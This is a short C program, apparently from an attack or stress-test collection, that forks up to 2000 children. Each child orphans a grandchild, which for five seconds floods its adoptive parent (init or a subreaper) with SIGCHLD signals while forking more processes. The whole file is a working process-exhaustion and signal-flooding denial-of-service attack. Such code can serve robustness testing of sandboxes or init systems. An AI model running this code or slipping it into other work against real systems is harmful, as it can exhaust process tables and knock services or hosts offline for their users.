#include "attack.h"
// Takes all the processes it may, orphans that signal who adopts them, and ends
// itself meanwhile.
int main(void) {
	for (int i = 0; i < 2000; i++) {
		pid_t pid = fork();
		if (pid < 0) break;
		if (pid > 0) continue;
		if (fork() == 0) {
			alarm(5);
			for (;;) {
				kill(getppid(), SIGCHLD);
				if (fork() == 0) _exit(0);
			}
		}
		_exit(0);
	}
	return 0;
}
